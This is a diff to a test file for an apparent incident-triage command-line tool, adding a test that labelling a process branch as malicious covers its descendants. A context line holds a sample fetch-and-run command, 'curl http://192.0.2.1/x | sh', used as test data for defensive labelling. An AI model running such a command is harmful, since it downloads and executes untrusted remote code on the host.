@@ -209,6 +209,22 @@ def test_a_process_that_was_named_is_labelled_and_no_other(grouped: tuple[Home, 
     assert home.run("label", "F1", "benign", "--prefix", "1", "--yes").exit_code == 2
 
 
+def test_a_branch_is_a_process_with_what_descends_from_it(grouped: tuple[Home, list[str]]) -> None:
+    home, _ = grouped
+    covered = json.loads(home.run("show", "F1", "--format", "json").stdout)["incident"]["covered"]
+    top = next(one["process"] for one in covered if one["depth"] == 0)
+    done = home.run("label", f"{top}/branch", "malicious", "--yes")
+    assert done.exit_code == 0
+    assert f"branch {top}/branch malicious: covers" in done.stderr
+    assert verdicts(home)[top] == "malicious"
+    assert sum(verdict == "malicious" for verdict in verdicts(home).values()) > 1
+    history = home.run("labels", "history").stdout.splitlines()
+    assert len(history) == 1
+    assert f"{top}/branch  none -> malicious (" in history[0]
+    assert home.run("label", f"{top}/branch", "malicious", "--variant").exit_code == 2
+    assert home.run("label", "P99999/branch", "malicious").exit_code == 1
+
+
 def test_a_variant_is_labelled_and_not_the_rest_of_its_chain(home: Home) -> None:
     workspace = open_workspace(home.workspace)
     lines = ["run --quiet", "run --quiet", "curl http://192.0.2.1/x | sh"]
